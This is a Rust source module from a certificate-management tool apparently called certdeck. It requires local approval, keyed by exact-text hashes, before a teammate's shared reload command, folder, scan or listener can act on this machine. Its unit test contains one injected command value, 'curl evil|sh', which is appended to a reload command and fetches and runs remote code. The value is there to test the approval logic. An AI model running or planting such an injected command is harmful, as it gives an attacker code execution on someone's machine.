//! What a shared inventory may make *this* machine do, approved on this machine (issue 28,
//! item 1).
//!
//! A team's rows are written by teammates: a folder node's path (where certdeck writes a private
//! key) and reload command (what it runs, as the pushing member, with their files), a saved scan
//! (where certdeck connects from this machine). None of that runs here because a row says so.
//! Each member keeps, outside the shared database, the list of what they approved — keyed by a
//! hash of what it is, for which inventory and node, and its exact text — in `approved.json` of
//! their data folder (mode 0600). A changed command is a new command: approved again.
//!
//! A local inventory needs none of this: its rows are the user's own.

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

/// The file in the data folder.
const FILE: &str = "approved.json";

/// What is approved.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    /// A folder node's reload command (run through the shell on this machine).
    ReloadCommand,
    /// A folder node's folder (written on this machine: certificate and private key).
    Folder,
    /// A saved scan's specification (connections from this machine).
    SavedScan,
    /// A file on this machine read and sent to the node (a CRL file to ship).
    LocalFile,
    /// A folder on this machine where HTTP-01 answers are written (a folder node's web root).
    WebRoot,
    /// An address on this machine where a listener for HTTP-01 is opened.
    Listener,
}

impl Kind {
    pub fn words(self) -> &'static str {
        match self {
            Kind::ReloadCommand => "reload command",
            Kind::Folder => "folder",
            Kind::SavedScan => "saved scan",
            Kind::LocalFile => "file sent to the node",
            Kind::WebRoot => "HTTP-01 web root",
            Kind::Listener => "HTTP-01 listener",
        }
    }
}

/// Something a shared row would make this machine do.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Request {
    pub kind: Kind,
    /// The inventory's id.
    pub inventory: String,
    /// The node's (or saved scan's) name.
    pub owner: String,
    /// The exact command, path or scan specification.
    pub text: String,
    /// Who last set it, when the inventory knows.
    pub set_by: Option<String>,
    /// When (Unix seconds).
    pub set_at: Option<i64>,
}

impl Request {
    /// The key it is approved under: SHA-256 of kind, inventory, owner and text.
    pub fn hash(&self) -> String {
        let mut hasher = Sha256::new();
        for part in [
            format!("{:?}", self.kind).as_str(),
            &self.inventory,
            &self.owner,
            &self.text,
        ] {
            hasher.update((part.len() as u64).to_be_bytes());
            hasher.update(part.as_bytes());
        }
        hex::encode(hasher.finalize())
    }

    /// In words, for a question or a refusal: `node sip1's reload command "systemctl reload
    /// nginx" (set by bob at 2026-12-01 10:00 UTC)`.
    pub fn describe(&self) -> String {
        let owner = match self.kind {
            Kind::SavedScan => format!("saved scan {}", crate::sanitize::visible(&self.owner)),
            _ => format!(
                "node {}'s {}",
                crate::sanitize::visible(&self.owner),
                self.kind.words()
            ),
        };
        let by = match (&self.set_by, self.set_at) {
            (Some(who), Some(at)) => format!(
                " (set by {} at {})",
                crate::sanitize::visible(who),
                time::OffsetDateTime::from_unix_timestamp(at)
                    .map(crate::pki::display::display_time)
                    .unwrap_or_else(|_| at.to_string())
            ),
            (Some(who), None) => format!(" (set by {})", crate::sanitize::visible(who)),
            _ => String::new(),
        };
        format!(
            "{owner} {:?}{by}",
            crate::sanitize::visible(&self.text).into_owned()
        )
    }
}

/// One approval as kept in the file.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Approved {
    pub hash: String,
    pub kind: Kind,
    pub inventory: String,
    pub owner: String,
    pub text: String,
    pub set_by: Option<String>,
    /// When it was approved here (RFC 3339).
    pub approved_at: String,
}

/// This machine's approvals for the data folder `dir`.
#[derive(Debug)]
pub struct Approvals {
    path: PathBuf,
    dir: PathBuf,
    entries: Vec<Approved>,
}

impl Approvals {
    /// Reads the list (empty when there is none yet).
    pub fn load(dir: &Path) -> Result<Self, String> {
        let path = dir.join(FILE);
        let entries = match std::fs::read(&path) {
            Ok(bytes) => serde_json::from_slice(&bytes)
                .map_err(|e| format!("{}: {e} (approvals list damaged)", path.display()))?,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
            Err(e) => return Err(format!("{}: {e}", path.display())),
        };
        Ok(Self {
            path,
            dir: dir.to_path_buf(),
            entries,
        })
    }

    pub fn is_approved(&self, request: &Request) -> bool {
        let hash = request.hash();
        self.entries.iter().any(|e| e.hash == hash)
    }

    /// Those of `requests` not approved here.
    pub fn unapproved(&self, requests: impl IntoIterator<Item = Request>) -> Vec<Request> {
        requests
            .into_iter()
            .filter(|request| !self.is_approved(request))
            .collect()
    }

    /// Approves `request` (kept at once).
    pub fn approve(&mut self, request: &Request, now: time::OffsetDateTime) -> Result<(), String> {
        if self.is_approved(request) {
            return Ok(());
        }
        self.entries.push(Approved {
            hash: request.hash(),
            kind: request.kind,
            inventory: request.inventory.clone(),
            owner: request.owner.clone(),
            text: request.text.clone(),
            set_by: request.set_by.clone(),
            approved_at: now
                .format(&time::format_description::well_known::Rfc3339)
                .unwrap_or_default(),
        });
        self.save()
    }

    /// Withdraws approvals whose hash starts with `prefix` (at least 8 characters); how many.
    pub fn revoke(&mut self, prefix: &str) -> Result<usize, String> {
        if prefix.len() < 8 {
            return Err("give at least 8 characters of the approval's hash".into());
        }
        let before = self.entries.len();
        self.entries.retain(|e| !e.hash.starts_with(prefix));
        let removed = before - self.entries.len();
        if removed > 0 {
            self.save()?;
        }
        Ok(removed)
    }

    pub fn entries(&self) -> &[Approved] {
        &self.entries
    }

    fn save(&self) -> Result<(), String> {
        let text = serde_json::to_vec_pretty(&self.entries).map_err(|e| e.to_string())?;
        crate::store::write_private_file(&self.dir, &self.path, &text).map_err(|e| e.to_string())
    }
}

/// What a folder node read from a shared inventory would make this machine do: write into its
/// folder, run its reload command.
/// A request about `node`: `kind` with `text`, set by whoever last changed the node.
fn about(node: &crate::store::Node, kind: Kind, text: &str) -> Request {
    Request {
        kind,
        inventory: node.inventory.clone(),
        owner: node.name.clone(),
        text: text.to_string(),
        set_by: node.changed_by.clone(),
        set_at: node.changed_at,
    }
}

pub fn node_requests(node: &crate::store::Node) -> Vec<Request> {
    let request = |kind, text: &str| about(node, kind, text);
    let mut requests = Vec::new();
    // A CRL file to ship is read from this machine (folder and SSH nodes).
    if matches!(node.driver.as_str(), "folder" | "ssh")
        && let Some(file) = node.settings.get("crl").and_then(|p| p.as_str())
    {
        requests.push(request(Kind::LocalFile, file));
    }
    if node.driver != "folder" {
        return requests;
    }
    if let Some(path) = node.settings.get("path").and_then(|p| p.as_str()) {
        requests.push(request(Kind::Folder, path));
    }
    if let Some(command) = node.settings.get("reload").and_then(|c| c.as_str()) {
        requests.push(request(Kind::ReloadCommand, command));
    }
    requests
}

/// What `nodes` (read from an inventory) would run or write on this machine without having
/// been approved here: empty for a local inventory's nodes.
pub fn pending(nodes: &[crate::store::Node]) -> Result<Vec<Request>, String> {
    let mut pending = Vec::new();
    for node in nodes {
        let Some(dir) = &node.approvals_dir else {
            continue;
        };
        pending.extend(Approvals::load(dir)?.unapproved(node_requests(node)));
    }
    Ok(pending)
}

/// Approves `requests` in the data folder `dir` (the user said so, on this machine).
pub fn approve_all(
    dir: &Path,
    requests: &[Request],
    now: time::OffsetDateTime,
) -> Result<(), String> {
    let mut approvals = Approvals::load(dir)?;
    for request in requests {
        approvals.approve(request, now)?;
    }
    Ok(())
}

/// What a shared inventory's ACME issuer for `node` would make this machine do: write HTTP-01
/// answers into a folder here (a folder node's web root), open a listener here.
pub fn issuer_requests(
    node: &crate::store::Node,
    challenge: &crate::model::acme::Challenge,
) -> Vec<Request> {
    let request = |kind, text: &str| about(node, kind, text);
    match challenge {
        crate::model::acme::Challenge::Http01Webroot { webroot } if node.driver == "folder" => {
            vec![request(Kind::WebRoot, webroot)]
        }
        crate::model::acme::Challenge::Http01Listen { listen } => {
            vec![request(Kind::Listener, listen)]
        }
        _ => Vec::new(),
    }
}

/// Everything a shared inventory's rows would make this machine do that was not approved here
/// (nodes' folders, reload commands and CRL files, issuers' HTTP-01 web roots and listeners,
/// saved scans): what an unattended pass would refuse. Empty for a local inventory.
pub fn waiting(store: &mut crate::store::Inventory) -> Result<Vec<Request>, String> {
    if store.shared_address().is_none() {
        return Ok(Vec::new());
    }
    let approvals = Approvals::load(store.dir())?;
    let issuers = store.issuers().map_err(|e| e.to_string())?;
    let mut requests = Vec::new();
    for node in store.nodes().map_err(|e| e.to_string())? {
        requests.extend(node_requests(&node));
        if let Some(issuer) = issuers.iter().find(|i| i.node == node.name) {
            requests.extend(issuer_requests(&node, &issuer.challenge));
        }
    }
    for name in store.saved_scan_names().map_err(|e| e.to_string())? {
        requests.extend(store.saved_scan_request(&name).map_err(|e| e.to_string())?);
    }
    Ok(approvals.unapproved(requests))
}

/// The refusal for an unapproved request (a run that cannot ask).
pub fn refusal(requests: &[Request]) -> String {
    let what: Vec<String> = requests.iter().map(Request::describe).collect();
    let node = requests
        .first()
        .map(|r| crate::sanitize::visible(&r.owner).into_owned())
        .unwrap_or_default();
    let command = match requests.first().map(|r| r.kind) {
        Some(Kind::SavedScan) => format!("certdeck scan --approve {node}"),
        _ => format!("certdeck node approve {node}"),
    };
    format!(
        "not approved on this machine: {}. A teammate's setting runs or writes here only once \
         you approve it here: read it, then run `{command}`",
        what.join("; ")
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn request(text: &str) -> Request {
        Request {
            kind: Kind::ReloadCommand,
            inventory: "inv1".into(),
            owner: "web1".into(),
            text: text.into(),
            set_by: Some("bob".into()),
            set_at: Some(1_796_000_000),
        }
    }

    #[test]
    fn an_approval_holds_for_the_exact_text_only_and_survives_a_restart() {
        let dir = tempfile::tempdir().unwrap();
        let now = time::OffsetDateTime::from_unix_timestamp(1_796_000_100).unwrap();
        let mut approvals = Approvals::load(dir.path()).unwrap();
        let reload = request("systemctl reload nginx");
        assert!(!approvals.is_approved(&reload));
        approvals.approve(&reload, now).unwrap();
        let again = Approvals::load(dir.path()).unwrap();
        assert!(again.is_approved(&reload));
        // One character more is another command; another node or inventory is another request.
        assert!(!again.is_approved(&request("systemctl reload nginx; curl evil|sh")));
        let mut elsewhere = reload.clone();
        elsewhere.owner = "web2".into();
        assert!(!again.is_approved(&elsewhere));
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(dir.path().join(FILE))
                .unwrap()
                .permissions()
                .mode();
            assert_eq!(mode & 0o777, 0o600);
        }
        let mut approvals = Approvals::load(dir.path()).unwrap();
        assert_eq!(approvals.revoke(&reload.hash()[..8]).unwrap(), 1);
        assert!(!Approvals::load(dir.path()).unwrap().is_approved(&reload));
        assert!(reload.describe().contains("set by bob"));
    }
}
